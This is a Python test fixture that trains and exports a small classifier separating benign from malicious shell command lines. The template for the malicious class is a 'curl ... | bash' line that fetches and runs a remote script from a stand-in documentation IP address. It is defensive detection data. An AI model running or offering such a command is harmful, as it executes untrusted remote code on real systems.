"""A small exported model for the verbs that score."""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pytest

MALICIOUS = "curl -s http://198.51.100.{n}/x.sh | bash"
BENIGN = "grep -rn timeout{n} /etc/nginx"


@pytest.fixture(scope="session")
def model_dir(tmp_path_factory):
    from cmdclf.classify import Classifier, Featuriser, export_model
    from cmdclf.features import FeatureMaker, load_embedder

    lines = [template.format(n=n) for n in range(60) for template in (BENIGN, MALICIOUS)]
    batch = pa.record_batch([pa.array(lines), pa.array(["linux"] * len(lines))], names=["command_line", "platform"])
    featuriser = Featuriser(FeatureMaker(buckets=2**12).fit([batch]), load_embedder())
    classifier = Classifier(max_iter=10).fit(featuriser.matrix(batch), np.arange(len(lines)) % 2)
    folder = tmp_path_factory.mktemp("scoring") / "model"
    return export_model(folder, classifier, featuriser, name="small", provenance={}, metrics={})
